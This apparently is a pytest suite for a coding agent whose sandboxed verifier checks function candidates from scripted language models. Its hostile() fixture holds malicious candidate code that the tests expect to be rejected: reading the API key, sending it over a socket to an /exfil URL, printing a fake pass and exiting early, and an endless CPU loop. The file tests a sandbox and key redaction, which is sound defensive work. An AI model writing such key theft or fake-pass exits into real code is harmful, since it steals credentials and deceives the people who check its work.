"""The coding agent (examples/coding_agent) end to end.

A spec (examples/coding_agent/specs/textstats.py: four functions, one calling another, one
calling three) is planned into one ``code.function`` step per function plus the ``code.module``
step; small-LLM particles are served by ``ScriptedOpenAIServer`` (a test fixture on 127.0.0.1:
the real ``openai`` client over real HTTP, scripted replies) and include wrong and hostile
candidates, which the sandboxed verifier must reject; one function no small candidate passes
climbs to the (scripted) large model. Everything runs on ``Fleet(executor="local")``.
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:  # the examples live beside the packages, not inside them
    sys.path.insert(0, str(ROOT))

from openai_server import RecordedRequest, Reply, ScriptedOpenAIServer, openai_server  # noqa: E402, F401

from orchestrator import Event, Fleet, InputError, PlanError, Price, PriceTable, Strategy  # noqa: E402
from planners.openai import OpenAIPlanner, OpenAISettings  # noqa: E402
from tinyfleet.examples.coding_agent import (  # noqa: E402
    BuildResult,
    SpecPlanner,
    adopt_plan,
    assemble,
    build_module,
    coding_registry,
    load_spec,
    main,
    parse_python_spec,
    spec_plan,
)
from workers.llm.followers import particle_seed  # noqa: E402
from workers.sandbox import SandboxLimits  # noqa: E402

RUN_SEED = 2026  # the small model's seeds derive from it: particle k of a step is particle_seed(RUN_SEED, step, k)

SPEC_FILE = ROOT / "examples" / "coding_agent" / "specs" / "textstats.py"
KEY = "sk-tinyfleet-coder-" + "S3CRETkey" * 3
SMALL, LARGE = "small-coder", "large-coder"
PRICES = PriceTable(models={LARGE: Price(per_mtok_in=2.5, per_mtok_out=10.0), SMALL: Price(per_mtok_in=0.15, per_mtok_out=0.6)})
LIMITS = SandboxLimits(wall_s=5.0, cpu_s=1)  # the CPU-burning candidate is stopped after 1 s

# ---------------------------------------------------------------------------- candidates

WORDS = '''import re


def words(text: str) -> list[str]:
    return [w.lower() for w in re.findall(r"[A-Za-z]+(?:'[A-Za-z]+)*", text)]
'''
SENTENCES = '''import re


def sentences(text: str) -> list[str]:
    return [p.strip() for p in re.findall(r"[^.!?]*[.!?]+|[^.!?]+$", text) if p.strip()]
'''
TOP_WORDS = '''from collections import Counter


def top_words(text: str, n: int) -> list[tuple[str, int]]:
    # most frequent first, ties alphabetical
    return sorted(Counter(words(text)).items(), key=lambda kv: (-kv[1], kv[0]))[:n]
'''
SUMMARY = '''def summary(text: str) -> str:
    top = ", ".join(f"{w} ({c})" for w, c in top_words(text, 3)) or "none"
    return f"{len(sentences(text))} sentences, {len(words(text))} words; top: {top}"
'''


def hostile(port: int) -> dict[str, str]:
    """Candidates that try to get out, or to fake a pass."""
    return {
        # reads the API key (and carries it in a comment: the client must scrub the reply)
        "steal_key": f'import os\n# send {KEY} home\n\ndef words(text):\n    return [os.environ["OPENAI_API_KEY"]]\n',
        # right answer, but phones home with whatever key it finds, at import time
        "socket": SENTENCES
        + "\nimport os, socket\n"
        + f"conn = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
        + "conn.sendall(('GET /exfil?k=' + os.environ.get('OPENAI_API_KEY', 'none') + ' HTTP/1.0\\r\\n\\r\\n').encode())\n",
        # ends the process with status 0 before any test ran, after printing a "pass"
        "exit0": "import os\nprint('5 passed')\nos._exit(0)\n\ndef sentences(text):\n    return []\n",
        # burns CPU forever
        "spin": "def summary(text):\n    while True:\n        pass\n",
        # prints a pass and leaves with SystemExit(0)
        "sysexit": "import sys\nprint('OK: all tests passed')\nsys.exit(0)\n\ndef summary(text):\n    return ''\n",
    }


def small_candidates(port: int) -> dict[str, list[str | Reply]]:
    """What the small model answers for each function, per particle (seed)."""
    h = hostile(port)
    return {
        "words": ["def words(text):\n    return text.lower().split()\n", h["steal_key"], WORDS, WORDS],
        "sentences": [h["socket"], h["exit0"], Reply(content="Sure! Here is the function you asked for."), SENTENCES],
        "top_words": [
            # ties in order of first appearance, not alphabetical
            "def top_words(text, n):\n    ws = words(text)\n    return sorted({w: ws.count(w) for w in ws}.items(), key=lambda kv: -kv[1])[:n]\n",
            WORDS + "\n\n" + TOP_WORDS,  # passes, with its own copy of words(): the assembly keeps one
            "def top_words(text, n)\n    return []\n",
            TOP_WORDS,
        ],
        "summary": [
            "def summary(text):\n    return f'{len(words(text))} words'\n",
            h["spin"],
            h["sysexit"],
            "def summarize(text):\n    return ''\n",
        ],
    }


def step_input(req: RecordedRequest) -> dict[str, Any]:
    first = next(str(m["content"]) for m in req.messages if m.get("role") == "user")
    return dict(json.loads(first.split("(JSON): ", 1)[1]))


def function_of(req: RecordedRequest) -> str:
    return str(step_input(req)["signature"]).split("(")[0].split()[-1]


class Coder:
    """The scripted models: small candidates per particle, the large model's answers, a plan."""

    def __init__(self, small: dict[str, list[str | Reply]], large: dict[str, str], plan: dict[str, Any] | None = None):
        self.small, self.large, self.plan = small, large, plan

    def __call__(self, req: RecordedRequest) -> Reply:
        body = req.body or {}
        if req.schema_name == "tinyfleet_plan":
            assert self.plan is not None, "no plan was scripted"
            return Reply.json(self.plan, prompt_tokens=3000, completion_tokens=900)
        if req.schema_name == "code_module":
            return Reply.json({"source": self.large["<module>"]}, prompt_tokens=900, completion_tokens=300)
        name = function_of(req)
        if body["model"] == LARGE:
            return Reply.json({"code": self.large[name]}, prompt_tokens=800, completion_tokens=200)
        options = self.small[name]
        particle = {particle_seed(RUN_SEED, name, k): k for k in range(len(options))}[int(body["seed"])]
        got = options[particle]
        return got if isinstance(got, Reply) else Reply.json({"code": got}, prompt_tokens=300, completion_tokens=80)


def settings_for(server: ScriptedOpenAIServer) -> OpenAISettings:
    return OpenAISettings(
        api_key=SecretStr(KEY), base_url=server.base_url, large_model=LARGE, small_model=SMALL,
        timeout_s=10.0, max_attempts=2, backoff_initial_s=0.01, backoff_max_s=0.05, seed=RUN_SEED,
    )


def fleet_for(server: ScriptedOpenAIServer, planner: str = "spec", particles: int = 4, **kw: Any) -> Fleet:
    settings = settings_for(server)
    large = OpenAIPlanner(settings, prices=PRICES)
    chosen = SpecPlanner(large, Strategy(particles=particles)) if planner == "spec" else large
    return Fleet(planner=chosen, registry=coding_registry(settings, prices=PRICES, limits=LIMITS), executor="local", **kw)


def by_name(result: BuildResult) -> dict[str, Any]:
    return {f.name: f for f in result.functions}


# ---------------------------------------------------------------------------- the main job


async def test_spec_built_by_small_llm_particles_with_hostile_candidates_rejected_and_one_escalation(
    openai_server: ScriptedOpenAIServer, tmp_path: Path
) -> None:
    port = int(openai_server.base_url.rsplit(":", 1)[1].split("/")[0])
    openai_server.on(Coder(small_candidates(port), {"summary": SUMMARY}))
    events: list[Event] = []
    spec = load_spec(SPEC_FILE)
    fleet = fleet_for(openai_server, hooks=[events.append])
    result = await build_module(spec, fleet, strategy=Strategy(particles=4))
    await fleet.close()

    assert result.status == "succeeded" and result.verified, result.summary()
    fns = by_name(result)

    # words: a wrong split and a key thief rejected; the first passing particle (2) wins.
    w = fns["words"]
    assert (w.status, w.tier, w.escalated) == ("verified", "llm-small", False)
    assert [c.ok for c in w.candidates] == [False, False, True, True] and w.code == WORDS
    assert "1 of 1 tests failed" in w.candidates[0].reason
    assert "KeyError" in w.candidates[1].reason and "OPENAI_API_KEY" in w.candidates[1].reason
    assert "[redacted]" in (w.candidates[1].code or "")  # the key in the reply never reached the report

    # sentences: phoning home is forbidden, exiting early with a printed "pass" fails, prose is no code.
    s = fns["sentences"]
    assert [c.ok for c in s.candidates] == [False, False, False, True] and s.code == SENTENCES
    assert s.candidates[0].contained == "forbidden" and "socket" in s.candidates[0].reason
    assert s.candidates[1].contained == "early_exit"
    assert "holds no JSON object" in s.candidates[2].reason and '"Sure! Here is the function' in s.candidates[2].reason
    assert not [r for r in openai_server.requests if "exfil" in r.path]  # nothing got out

    # top_words ran with words()' verified code loaded; a syntax error is rejected statically.
    t = fns["top_words"]
    assert [c.ok for c in t.candidates] == [False, True, False, True]
    assert "does not parse" in t.candidates[2].reason

    # summary: every small candidate failed (wrong, CPU burner, sys.exit(0), wrong name) -> the large model.
    m = fns["summary"]
    assert (m.status, m.tier, m.escalated, m.tiers_tried) == ("verified", "large", True, ["llm-small", "large"])
    small = [c for c in m.candidates if c.tier == "llm-small"]
    assert [c.ok for c in small] == [False] * 4
    assert small[1].contained in ("cpu", "timeout", "crash")  # killed by the CPU limit (some kernels report a plain SIGKILL)
    assert small[2].contained == "early_exit" or "SystemExit" in small[2].reason
    assert "does not define summary()" in small[3].reason
    large = [c for c in m.candidates if c.tier == "large"]
    assert len(large) == 1 and large[0].ok and large[0].worker == f"openai:{LARGE}" and m.code == SUMMARY

    # The module: every function once (top_words' copy of words() dropped), the whole test file passed,
    # including the test that only the assembled module can run.
    mc = result.module_check
    assert (mc.status, mc.tier) == ("verified", "module-assemble") and mc.reason == "all 5 tests passed"
    assert any(t["name"] == "test_words_of_sentences_add_up" and t["ok"] for t in mc.tests)
    assert result.source.count("def words(") == 1 and result.source.count("import re\n") == 1
    assert result.source.startswith('"""textstats: small statistics')

    # Dependency order: top_words after words, summary after all three; words and sentences in parallel.
    seq = [(e.kind, e.step_id) for e in events if e.kind in ("step_dispatched", "step_done")]
    first = {sid: seq.index(("step_dispatched", sid)) for sid in spec.names}
    done = {sid: seq.index(("step_done", sid)) for sid in [*spec.names, "module"]}
    assert first["sentences"] < done["words"] and first["words"] < done["sentences"]
    assert first["top_words"] > done["words"]
    assert first["summary"] > max(done["words"], done["sentences"], done["top_words"])
    assert seq.index(("step_dispatched", "module")) > done["summary"]

    # On the wire: 4 particles per function from the small model (seeds 0-3, sampled), one large call.
    chats = openai_server.chat_requests()
    small_reqs = [r for r in chats if (r.body or {})["model"] == SMALL]
    assert len(small_reqs) == 16 and len(chats) == 17
    for name in spec.names:
        assert sorted((r.body or {})["seed"] for r in small_reqs if function_of(r) == name) == sorted(
            particle_seed(RUN_SEED, name, k) for k in range(4)
        )
    assert all((r.body or {})["temperature"] > 0 and r.schema_name == "code_function" for r in small_reqs)
    summary_req = next(r for r in small_reqs if function_of(r) == "summary")
    context = step_input(summary_req)["context"]
    assert context[0] == WORDS and context[1] == SENTENCES and "def top_words" in context[2]
    totals = result.report.totals
    assert totals.large_model_calls == 1 and totals.escalated == 1 and totals.verified == 5
    assert (totals.tokens_in, totals.tokens_out) == openai_server.usage_totals()

    # The API key is nowhere in the result (report, candidates, sandbox output, source).
    dumped = result.model_dump_json()
    assert KEY not in dumped and "S3CRETkey" not in dumped
    assert all(r.headers["authorization"] == f"Bearer {KEY}" for r in chats)  # it was really sent


def test_cli_writes_the_module_tests_and_report(
    openai_server: ScriptedOpenAIServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    openai_server.on(Coder({"words": [WORDS], "sentences": [SENTENCES], "top_words": [TOP_WORDS], "summary": [SUMMARY]}, {}))
    for var, value in {
        "OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": openai_server.base_url,
        "TINYFLEET_LARGE_MODEL": LARGE, "TINYFLEET_SMALL_MODEL": SMALL, "TINYFLEET_LLM_TIMEOUT_S": "10",
        "TINYFLEET_SEED": str(RUN_SEED),
    }.items():
        monkeypatch.setenv(var, value)
    out = tmp_path / "out"
    code = main([str(SPEC_FILE), "--out", str(out), "--json", "--executor", "local", "--particles", "1"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    doc = json.loads(captured.out)
    assert doc["verified"] and doc["status"] == "succeeded" and doc["report"]["totals"]["steps"] == 5
    assert sorted(p.name for p in out.iterdir()) == ["report.json", "test_textstats.py", "textstats.py"]
    assert json.loads((out / "report.json").read_text())["source"] == (out / "textstats.py").read_text()
    # The written files work on their own: the test file imports the module and every test passes.
    run = subprocess.run(
        [sys.executable, "-c", "import test_textstats as t; [getattr(t, n)() for n in dir(t) if n.startswith('test_')]; print('ok')"],
        cwd=out, capture_output=True, text=True, timeout=60,
    )
    assert run.returncode == 0 and run.stdout.strip() == "ok", run.stderr
    for text in (captured.out, captured.err, *(p.read_text() for p in out.iterdir())):
        assert KEY not in text and "S3CRETkey" not in text


# ---------------------------------------------------------------------------- planner and failures


@pytest.mark.parametrize("good", [True, False], ids=["llm-plan-used", "llm-plan-rejected"])
async def test_openai_planner_plans_the_spec_and_a_bad_plan_falls_back(openai_server: ScriptedOpenAIServer, good: bool) -> None:
    spec = load_spec(SPEC_FILE)
    plan = spec_plan(spec, Strategy(particles=1)).model_dump(mode="json", exclude_defaults=True)
    if not good:  # the model forgot to hand words() to top_words()
        next(s for s in plan["steps"] if s["id"] == "top_words")["inputs"]["context"] = []
    openai_server.on(Coder({"words": [WORDS], "sentences": [SENTENCES], "top_words": [TOP_WORDS], "summary": [SUMMARY]}, {}, plan))
    fleet = fleet_for(openai_server, planner="openai")
    result = await build_module(spec, fleet, strategy=Strategy(particles=1))
    await fleet.close()
    assert result.verified, result.summary()
    plan_req = openai_server.chat_requests()[0]
    assert plan_req.schema_name == "tinyfleet_plan" and "code.function" in plan_req.system and "code.module" in plan_req.system
    assert "textstats" in plan_req.last_user
    assert result.report.totals.planner_calls == 1 and result.report.totals.tokens_in >= 3000
    if good:
        assert result.plan_source == "planner" and result.plan_note is None
    else:
        assert result.plan_source == "spec"
        assert result.plan_note is not None and "does not get the code of words()" in result.plan_note


async def test_a_function_nobody_can_write_fails_the_build_and_stays_a_stub(openai_server: ScriptedOpenAIServer) -> None:
    wrong = "def summary(text):\n    return 'no idea'\n"
    openai_server.on(Coder({"words": [WORDS], "sentences": [SENTENCES], "top_words": [TOP_WORDS], "summary": [wrong]}, {"summary": wrong}))
    fleet = fleet_for(openai_server, particles=1)
    result = await build_module(load_spec(SPEC_FILE), fleet, strategy=Strategy(particles=1))
    await fleet.close()
    fns = by_name(result)
    assert result.status == "failed" and not result.verified
    assert fns["summary"].status == "failed" and fns["summary"].tiers_tried == ["llm-small", "large"]
    assert "EscalationFailed" in (fns["summary"].error or "")
    assert all(fns[n].status == "verified" for n in ("words", "sentences", "top_words"))
    assert result.module_check.status == "skipped" and "summary" in result.module_check.reason
    assert "raise NotImplementedError('summary: no verified implementation was found')" in result.source
    assert "def top_words(" in result.source
    compile(result.source, "textstats.py", "exec")


async def test_module_that_fails_the_whole_test_file_climbs_to_the_large_model(
    openai_server: ScriptedOpenAIServer, tmp_path: Path
) -> None:
    # inc() passes its own test by special-casing it, so only the module-level test catches it.
    path = tmp_path / "mathbits.json"
    path.write_text(json.dumps({
        "doc": "Tiny maths.",
        "functions": [{"signature": "def inc(x: int) -> int", "doc": "x + 1."}, {"signature": "def double(x: int) -> int", "doc": "2 * x."}],
        "tests": "def test_inc():\n    assert inc(1) == 2\n\n\ndef test_double():\n    assert double(3) == 6\n\n\n"
                 "def test_together():\n    assert inc(double(2)) == 5\n",
    }))
    fixed = '"""Tiny maths."""\n\n\ndef inc(x: int) -> int:\n    return x + 1\n\n\ndef double(x: int) -> int:\n    return 2 * x\n'
    openai_server.on(Coder(
        {"inc": ["def inc(x):\n    return 2 if x == 1 else 0\n"], "double": ["def double(x):\n    return 2 * x\n"]},
        {"<module>": fixed},
    ))
    fleet = fleet_for(openai_server, particles=1)
    result = await build_module(load_spec(path), fleet, strategy=Strategy(particles=1))
    await fleet.close()
    assert result.verified and result.source == fixed
    assert all(f.tier == "llm-small" for f in result.functions)
    steps = {r.step_id: r for r in result.report.steps}
    module = steps["module"]
    assert module.tiers_tried == ["module-assemble", "large"] and module.tier == "large"
    first = module.trials[0].verdict
    assert first is not None and not first.ok and "test_together" in first.reason
    assert result.module_check.tier == "large" and result.module_check.reason == "all 3 tests passed"


# ---------------------------------------------------------------------------- specs


def test_spec_is_read_into_dependency_order_with_each_functions_own_tests() -> None:
    spec = load_spec(SPEC_FILE)
    assert spec.module == "textstats" and spec.names == ["words", "sentences", "top_words", "summary"]
    assert {f.name: f.calls for f in spec.functions} == {
        "words": [], "sentences": [], "top_words": ["words"], "summary": ["sentences", "top_words", "words"],
    }
    assert spec.needs("summary") == ["words", "sentences", "top_words"]
    assert spec.function("top_words").test_names == ["test_top_words"]
    assert "SAMPLE = " in spec.function("top_words").tests and "def test_words" not in spec.function("top_words").tests
    assert "test_words_of_sentences_add_up" in spec.tests  # the whole file runs on the module only
    assert not any("test_words_of_sentences_add_up" in f.test_names for f in spec.functions)
    assert "def words(" not in spec.tests and spec.function("words").signature == "def words(text: str) -> list[str]"


def test_an_llm_plan_missing_a_function_is_named() -> None:
    spec = load_spec(SPEC_FILE)
    plan = spec_plan(spec)
    short = plan.model_copy(update={"steps": [s for s in plan.steps if s.id != "sentences"]})
    with pytest.raises(PlanError, match=r"no step for sentences\(\)"):
        adopt_plan(spec, short)


GOOD_TAIL = "\n\ndef test_f():\n    assert f(1) == 2\n"


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('"""Nothing to write."""\n\ndef test_x():\n    assert True\n', "no function stubs to write"),
        ('"""Doc."""\n\ndef f(x: int -> int:\n    """Add one."""\n    ...\n' + GOOD_TAIL, "line 3: .*in the stub f\\(\\)"),
        ('def f(x):\n    """Add one."""\n    ...\n\n\ndef test_f():\n    assert f(1) == 2\n    assert g(1) == 3\n',
         "test_f\\(\\) uses g, which is neither a function of the spec"),
        ('def f(x):\n    """Add one; uses g()."""\n    ...\n\n\ndef g(x):\n    """Add one; uses f()."""\n    ...\n\n\n'
         "def test_f():\n    assert f(1) == 2\n\n\ndef test_g():\n    assert g(1) == 2\n",
         "cycle: f\\(\\) -> g\\(\\) -> f\\(\\)"),
        ("def f(x):\n    ...\n" + GOOD_TAIL, "the stub of f\\(\\) has no docstring"),
        ('def f(x):\n    """Add one."""\n    ...\n\n\ndef g(x):\n    """Add two."""\n    ...\n' + GOOD_TAIL,
         "no test checks g\\(\\) on its own"),
        ('def f(x):\n    """Add one."""\n    ...\n\n\nBASE = f(0)\n' + GOOD_TAIL, "top-level code calls f\\(\\)"),
        ('import pytest\n\n\ndef f(x):\n    """Add one."""\n    ...\n' + GOOD_TAIL, "line 1: the tests import pytest, which the sandbox"),
        ('def f(x):\n    """Add one."""\n    ...\n\n\ndef test_f(x):\n    assert f(x) == x + 1\n', "test_f takes arguments"),
    ],
    ids=["no-functions", "stub-does-not-parse", "unknown-function", "cycle", "no-docstring", "untested", "toplevel-call",
         "non-stdlib-import", "test-with-arguments"],
)
def test_bad_python_specs_are_named(text: str, says: str, tmp_path: Path) -> None:
    path = tmp_path / "bad.py"
    path.write_text(text)
    with pytest.raises(InputError, match=says) as info:
        load_spec(path)
    assert str(path) in str(info.value)


@pytest.mark.parametrize(
    ("doc", "says"),
    [
        ("{not json", "not valid JSON"),
        ({"functions": [], "tests": "def test_a():\n    assert True\n"}, "'functions' is empty"),
        ({"functions": [{"signature": "def f(x:", "doc": "Add one."}], "tests": GOOD_TAIL}, r"functions\[0\].signature"),
        ({"functions": [{"signature": "def f(x)", "doc": "Add one.", "calls": ["g"]}], "tests": GOOD_TAIL},
         "calls 'g', which is not a function of the spec"),
        ({"functions": [{"signature": "def f(x)", "doc": "Add one."}]}, "field 'tests'"),
    ],
    ids=["not-json", "no-functions", "bad-signature", "unknown-call", "no-tests"],
)
def test_bad_json_specs_are_named(doc: Any, says: str, tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text(doc if isinstance(doc, str) else json.dumps(doc))
    with pytest.raises(InputError, match=says):
        load_spec(path)


def test_json_spec_reads_like_the_python_one(tmp_path: Path) -> None:
    doc = {
        "module": "mathbits",
        "doc": "Tiny maths.",
        "functions": [
            {"signature": "def double(x: int) -> int", "doc": "Twice x, as inc(inc(x)) would give for x = 1."},
            {"signature": "def inc(x: int) -> int", "doc": "x + 1."},
        ],
        "tests": "from __future__ import annotations\n\ndef test_inc():\n    assert inc(1) == 2\n\ndef test_double():\n    assert double(3) == 6\n",
    }
    path = tmp_path / "m.json"
    path.write_text(json.dumps(doc))
    spec = load_spec(path)
    assert spec.names == ["inc", "double"] and spec.function("double").calls == ["inc"]
    assert spec.header.startswith("from __future__") and "__future__" not in spec.tests


def test_cli_bad_spec_and_missing_key_exit_2_with_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.py"
    bad.write_text('"""Nothing."""\n\ndef test_x():\n    assert True\n')
    assert main([str(bad), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("coding_agent: error: spec ") and "no function stubs" in err and "\n" not in err
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    assert main([str(SPEC_FILE), "--out", str(tmp_path / "o"), "--executor", "local"]) == 2
    err = capsys.readouterr().err.strip()
    assert "OPENAI_API_KEY" in err and "\n" not in err
    assert not (tmp_path / "o").exists()


def test_assembly_hoists_imports_and_drops_copies_of_other_functions() -> None:
    parts = [WORDS, WORDS + "\n\n" + TOP_WORDS + "\n# a trailing comment stays\n"]
    source = assemble("Doc.", "from __future__ import annotations\n", ["words", "top_words"], parts)
    assert source.startswith('"""Doc."""\n\nfrom __future__ import annotations\n\nimport re\nfrom collections import Counter\n')
    assert source.count("def words(") == 1 and "# a trailing comment stays" in source
    assert "# most frequent first, ties alphabetical" in source
    compile(source, "m.py", "exec")


def test_parse_python_spec_accepts_pass_and_not_implemented_stubs() -> None:
    text = textwrap.dedent(
        '''
        def f(x: int) -> int:
            """Add one."""
            pass


        def g(x: int) -> int:
            """Add two, as f(f(x))."""
            raise NotImplementedError


        def _helper(v):
            return v


        def test_f():
            assert _helper(f(1)) == 2


        def test_g():
            assert g(1) == 3
        '''
    )
    spec = parse_python_spec(text, module="m")
    assert spec.names == ["f", "g"] and spec.function("g").calls == ["f"]
    assert "def _helper" in spec.function("f").tests
